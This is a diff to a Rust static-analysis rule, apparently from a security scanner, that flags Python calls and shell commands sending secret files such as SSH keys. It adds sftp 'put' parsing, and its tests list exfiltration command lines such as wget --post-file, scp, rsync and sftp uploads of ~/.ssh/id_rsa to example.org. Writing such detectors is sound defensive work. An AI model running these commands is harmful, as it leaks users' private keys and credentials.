@@ -4,7 +4,11 @@ use airlock_model::finding::{Confidence, Finding, Severity};
 
 use super::destination::Destination;
 use crate::python::model::origin::{SourceKind, secret_file};
+use crate::rules::arrivals::Arrival;
 use crate::rules::check::{Check, How, Use};
+use crate::rules::paths;
+use crate::rules::rule::Hook;
+use crate::rules::sinks::{Part, SinkKind};
 
 /// What sends the file that an argument names.
 pub(crate) const UPLOADERS: &[&str] = &[
@@ -29,35 +33,68 @@ pub(crate) const UPLOADERS: &[&str] = &[
 /// Keywords that name the file on this machine.
 const LOCAL: &[&str] = &["Filename", "filename", "localpath", "local", "path_or_fileobj", "file_path"];
 
+/// Secrets of one kind, as the rule about them has them.
+pub(super) trait Secret {
+    /// The kind, alone in a list.
+    const KINDS: &'static [SourceKind];
+    /// What they are called.
+    const WHAT: &'static str;
+
+    /// Whether they go where they are meant to go.
+    fn is_meant(_: Part, _path: &str) -> bool {
+        false
+    }
+}
+
+/// What a rule about secrets that are sent looks at: flows of their contents, and files that are sent by their names.
+pub(super) const fn hooks<S: Secret>() -> [Hook; 4] {
+    [
+        Hook::Flow(S::KINDS, &[SinkKind::Send], arrived::<S>),
+        Hook::Reach(UPLOADERS, uploaded::<S>),
+        Hook::Reach(paths::SHELLS, by_command::<S>),
+        Hook::Reach(paths::PROCESSES, by_command::<S>),
+    ]
+}
+
+/// The contents of a secret that are sent.
+fn arrived<S: Secret>(check: &mut Check<'_, '_>, arrival: &Arrival) {
+    let Some((_, flow)) = arrival.of(S::KINDS).find(|(part, flow)| !S::is_meant(*part, &flow.path)) else { return };
+    let destination = Destination::of(&arrival.destinations);
+    let what = flow.name.as_deref().map_or_else(|| flow.path.to_string(), airlock_model::escape::quoted);
+    let message = format!("{} sends the {} in {what}{}", arrival.path, S::WHAT, destination.phrase());
+    let (severity, confidence) = super::of_secret(flow, destination.is_suspicious());
+    let finding = super::finding(check, arrival, flow, message).severity(severity).confidence(confidence);
+    check.report(finding);
+}
+
 /// A call of one of [`UPLOADERS`].
-pub(super) fn uploaded<'a>(check: &mut Check<'_, 'a>, site: &Use<'a>, wanted: SourceKind) {
+fn uploaded<'a, S: Secret>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
     let Some(call) = site.call.filter(|_| site.how == How::Called) else { return };
     let position = if site.path.ends_with("fput_object") { 2 } else { 0 };
     let named = call.arguments.keywords.iter().filter(|word| word.arg.as_deref().is_some_and(|n| LOCAL.contains(&n)));
     for file in call.arguments.args.get(position).into_iter().chain(named.map(|word| &word.value)) {
         let text = check.model.written(file, site.place.scope);
         if let Some((kind, name)) = secret(&text)
-            && kind == wanted
+            && S::KINDS.contains(&kind)
         {
-            let finding = told(check, site, kind, &name, "");
+            let finding = told::<S>(check, site, &name, "");
             return check.report(finding);
         }
     }
 }
 
 /// A command line that sends a file.
-pub(super) fn by_command<'a>(check: &mut Check<'_, 'a>, site: &Use<'a>, wanted: SourceKind) {
+fn by_command<'a, S: Secret>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
     let Some(line) = check.command(site) else { return };
-    if let Some((kind, name)) = sent(&line).filter(|(kind, _)| *kind == wanted) {
+    if let Some((_, name)) = sent(&line).filter(|(kind, _)| S::KINDS.contains(kind)) {
         let addresses: Vec<String> = line.split_whitespace().filter(|w| w.contains("://")).map(str::to_owned).collect();
-        let finding = told(check, site, kind, &name, &Destination::of(&addresses).phrase());
+        let finding = told::<S>(check, site, &name, &Destination::of(&addresses).phrase());
         check.report(finding);
     }
 }
 
-fn told<'a>(check: &Check<'_, 'a>, site: &Use<'a>, kind: SourceKind, name: &str, to: &str) -> Finding {
-    let what = if kind == SourceKind::KeyFile { "key or wallet" } else { "credentials" };
-    let message = format!("{} sends the {what} in {}{to}", site.path, airlock_model::escape::quoted(name));
+fn told<'a, S: Secret>(check: &Check<'_, 'a>, site: &Use<'a>, name: &str, to: &str) -> Finding {
+    let message = format!("{} sends the {} in {}{to}", site.path, S::WHAT, airlock_model::escape::quoted(name));
     check.at(site.range, message).severity(Severity::Critical).confidence(Confidence::High)
 }
 
@@ -79,6 +116,7 @@ fn sent(line: &str) -> Option<(SourceKind, String)> {
                 .into_iter()
                 .chain(read_out(part))
                 .chain(if takes_input(program, &words) { read_out(before) } else { Vec::new() })
+                .chain(if program == "sftp" { put(&before.split_whitespace().collect::<Vec<_>>()) } else { Vec::new() })
                 .find_map(secret);
             if found.is_some() {
                 return found;
@@ -122,10 +160,16 @@ fn files_of<'l>(program: &str, words: &[&'l str]) -> Vec<&'l str> {
             }
             files
         }
-        "sftp" => Vec::new(),
+        "sftp" => put(words),
         // `nc host 80 < file`.
         _ => words.windows(2).filter(|pair| pair[0] == "<").map(|pair| pair[1]).collect(),
     }
+}
+
+/// The files that commands of `sftp` send: `put FILE`.
+fn put<'l>(words: &[&'l str]) -> Vec<&'l str> {
+    let bare = |word: &'l str| word.trim_matches(['"', '\'', '(', ')']);
+    words.windows(2).filter(|pair| matches!(bare(pair[0]), "put" | "mput")).map(|pair| bare(pair[1])).collect()
 }
 
 /// Whether a program sends what it reads from its standard input.
@@ -158,6 +202,8 @@ mod tests {
             "wget --post-file=/home/me/.ssh/id_rsa https://example.org/",
             "scp -q ~/.ssh/id_rsa me@example.org:/tmp/",
             "rsync -a ~/.ssh example.org:/tmp/",
+            "echo 'put /home/me/.ssh/id_rsa' | sftp -b - me@example.org",
+            "sftp me@example.org <<< 'put /home/me/.ssh/id_rsa'",
         ] {
             assert_eq!(sent(line).map(|(kind, _)| kind), Some(SourceKind::KeyFile), "{line}");
         }
@@ -168,6 +214,8 @@ mod tests {
             "curl -o ~/.ssh/known https://example.org/",
             "curl --data @notes.json https://example.org/",
             "cat ~/.ssh/id_rsa.pub | nc example.org 80",
+            "sftp -i ~/.ssh/id_rsa me@example.org",
+            "echo 'get ~/.ssh/id_rsa' | sftp me@example.org",
             "cat ~/.ssh/id_rsa; curl https://example.org/",
         ] {
             assert_eq!(sent(line), None, "{line}");
